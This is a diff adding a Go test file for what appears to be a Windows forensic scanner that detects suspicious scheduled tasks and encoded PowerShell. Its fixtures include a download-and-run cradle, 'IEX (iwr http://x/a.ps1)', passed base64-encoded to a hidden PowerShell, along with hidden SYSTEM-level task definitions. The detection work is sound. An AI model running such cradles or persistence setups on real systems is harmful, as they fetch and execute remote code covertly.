@@ -0,0 +1,195 @@
+//go:build windows || linux
+// +build windows linux
+
+package main
+
+import (
+	"context"
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+// taskFile 返回UTF-16LE编码、带BOM的任务定义文件
+func taskFile(principals, actions, settings string) []byte {
+	xml := `<?xml version="1.0" encoding="UTF-16"?>
+<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <RegistrationInfo>
+    <Date>2024-03-01T08:15:00</Date>
+    <Author>CORP\alice</Author>
+    <Description>Keeps software up to date</Description>
+  </RegistrationInfo>
+  <Triggers>
+    <LogonTrigger><Enabled>true</Enabled><UserId>CORP\alice</UserId><Delay>PT30S</Delay></LogonTrigger>
+    <CalendarTrigger>
+      <StartBoundary>2024-03-01T09:00:00</StartBoundary>
+      <Repetition><Interval>PT1H</Interval></Repetition>
+      <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay>
+    </CalendarTrigger>
+  </Triggers>
+  <Principals>` + principals + `</Principals>
+  <Settings>` + settings + `</Settings>
+  <Actions Context="Author">` + actions + `</Actions>
+</Task>`
+	return append([]byte{0xff, 0xfe}, utf16LE(xml)...)
+}
+
+func execAction(command, arguments string) string {
+	return "<Exec><Command>" + command + "</Command><Arguments>" + arguments + "</Arguments></Exec>"
+}
+
+const systemPrincipal = `<Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>`
+
+func TestParseScheduledTask(t *testing.T) {
+	data := taskFile(
+		`<Principal id="Users"><GroupId>S-1-5-32-545</GroupId></Principal>`+systemPrincipal,
+		execAction(`%LOCALAPPDATA%\Updater\upd.exe`, "/silent")+"<ComHandler><ClassId>{A6BA00FE-40E8-477C-B713-C64A14F18ADB}</ClassId></ComHandler>",
+		"<Hidden>true</Hidden><Enabled>false</Enabled>")
+
+	task, err := parseScheduledTask(data, `\Updater`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := scheduledTask{
+		Path:        `\Updater`,
+		Author:      `CORP\alice`,
+		Date:        "2024-03-01T08:15:00",
+		Description: "Keeps software up to date",
+		RunAs:       "SYSTEM",
+		RunLevel:    "HighestAvailable",
+		Hidden:      true,
+		Enabled:     false,
+		Triggers: []string{
+			`Logon (延迟 PT30S, 用户 CORP\alice)`,
+			"Calendar (开始 2024-03-01T09:00:00, 重复间隔 PT1H)",
+		},
+		Actions:  []taskAction{{Command: `%LOCALAPPDATA%\Updater\upd.exe`, Arguments: "/silent"}},
+		Handlers: []string{"{A6BA00FE-40E8-477C-B713-C64A14F18ADB}"},
+	}
+	if !reflect.DeepEqual(task, want) {
+		t.Errorf("task =\n%+v\nwant\n%+v", task, want)
+	}
+
+	if _, err := parseScheduledTask([]byte("not xml"), `\Broken`); err == nil {
+		t.Error("invalid file: expected error")
+	}
+}
+
+func TestEncodedPowerShellCommand(t *testing.T) {
+	encoded := base64.StdEncoding.EncodeToString([]byte(utf16LE("IEX (iwr http://x/a.ps1)")))
+	tests := []struct {
+		commandLine string
+		want        string
+		ok          bool
+	}{
+		{"powershell.exe -NoP -W Hidden -enc " + encoded, "IEX (iwr http://x/a.ps1)", true},
+		{"pwsh -EncodedCommand " + encoded, "IEX (iwr http://x/a.ps1)", true},
+		{"powershell /e " + encoded, "IEX (iwr http://x/a.ps1)", true},
+		{"powershell -ExecutionPolicy Bypass -File C:\\a.ps1", "", false},
+		{"cmd.exe /c echo -enc " + encoded, "", false},
+	}
+	for _, tt := range tests {
+		got, ok := encodedPowerShellCommand(tt.commandLine)
+		if got != tt.want || ok != tt.ok {
+			t.Errorf("encodedPowerShellCommand(%q) = %q, %v; want %q, %v", tt.commandLine, got, ok, tt.want, tt.ok)
+		}
+	}
+}
+
+// buildTestSoftwareHive 构造包含TaskCache的SOFTWARE hive
+func buildTestSoftwareHive(written time.Time) ([]byte, uint32) {
+	b := newRegfBuilder()
+	node := func(name string, children []uint32, values ...uint32) uint32 {
+		if len(children) == 0 {
+			return b.leaf(name, written, values...)
+		}
+		return b.key(name, written, b.list("lf", children...), len(children), values...)
+	}
+	id := func(guid string) uint32 { return b.value("Id", regSZ, regfTestString(guid)) }
+	sd := func() uint32 { return b.value("SD", regBinary, []byte{1, 0, 4, 0x80, 0x14, 0, 0, 0}) }
+
+	tree := node("Tree", []uint32{
+		node("Updater", nil, id("{11111111-0000-0000-0000-000000000001}"), sd()),
+		// 删除了SD值的任务
+		node("Hidden", nil, id("{11111111-0000-0000-0000-000000000002}")),
+		node("Ghost", nil, id("{11111111-0000-0000-0000-000000000003}"), sd()),
+		node("Microsoft", []uint32{node("Windows", []uint32{node("Defrag", []uint32{
+			node("ScheduledDefrag", nil, id("{11111111-0000-0000-0000-000000000004}"), sd()),
+		})})}),
+	})
+	tasks := node("Tasks", []uint32{
+		node("{11111111-0000-0000-0000-000000000001}", nil),
+		node("{11111111-0000-0000-0000-000000000002}", nil),
+		node("{11111111-0000-0000-0000-000000000003}", nil),
+		node("{11111111-0000-0000-0000-000000000004}", nil),
+	})
+	path := node("TaskCache", []uint32{tree, tasks})
+	for _, name := range []string{"Schedule", "CurrentVersion", "Windows NT", "Microsoft"} {
+		path = node(name, []uint32{path})
+	}
+	root := node("ROOT", []uint32{path})
+	return b.hbins(), root
+}
+
+func TestAnalyzeScheduledTasks(t *testing.T) {
+	written := time.Date(2024, 3, 1, 8, 30, 0, 0, time.UTC)
+	encoded := base64.StdEncoding.EncodeToString([]byte(utf16LE("Start-Process calc")))
+
+	tasksDir := t.TempDir()
+	files := map[string][]byte{
+		"Updater": taskFile(systemPrincipal, execAction(`%LOCALAPPDATA%\Updater\upd.exe`, ""), ""),
+		"Hidden":  taskFile(systemPrincipal, execAction("powershell.exe", "-w hidden -enc "+encoded), "<Hidden>true</Hidden>"),
+		"Orphan":  taskFile(systemPrincipal, execAction(`C:\Windows\System32\cmd.exe`, "/c exit"), ""),
+		"Broken":  []byte("<Task>"),
+		filepath.Join("Microsoft", "Windows", "Defrag", "ScheduledDefrag"): taskFile(systemPrincipal, execAction(`%windir%\system32\defrag.exe`, "-c -h"), ""),
+	}
+	for name, data := range files {
+		path := filepath.Join(tasksDir, name)
+		if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, data, 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	hiveDir := t.TempDir()
+	hbins, root := buildTestSoftwareHive(written)
+	data := append(regfBaseBlockBytes(regfBaseBlockSize, regfFileTypePrimary, 1, 1, root, len(hbins), written), hbins...)
+	if err := os.WriteFile(filepath.Join(hiveDir, "SOFTWARE"), data, 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	savedTasks, savedHives := scheduledTasksDir, registryHiveDir
+	scheduledTasksDir, registryHiveDir = tasksDir, hiveDir
+	defer func() { scheduledTasksDir, registryHiveDir = savedTasks, savedHives }()
+
+	var results []CheckResult
+	analyzeScheduledTasks(context.Background(), &results, tasksDir)
+
+	var got []string
+	for _, r := range results {
+		got = append(got, r.Severity+" "+r.Description)
+	}
+	want := []string{
+		`critical 可疑计划任务: \Hidden`,
+		`warning 可疑计划任务: \Orphan`,
+		`warning 可疑计划任务: \Updater`,
+		"info 计划任务数: 4",
+		"info 无法解析的任务文件: 1 个",
+		`warning TaskCache中的任务没有对应的任务文件: \Ghost`,
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("results:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	if details := results[0].Details; !strings.Contains(details, "Start-Process calc") || !strings.Contains(details, "缺少SD值") {
+		t.Errorf("Hidden details = %q", details)
+	}
+	if details := results[1].Details; !strings.Contains(details, "TaskCache中没有对应的注册项") {
+		t.Errorf("Orphan details = %q", details)
+	}
+}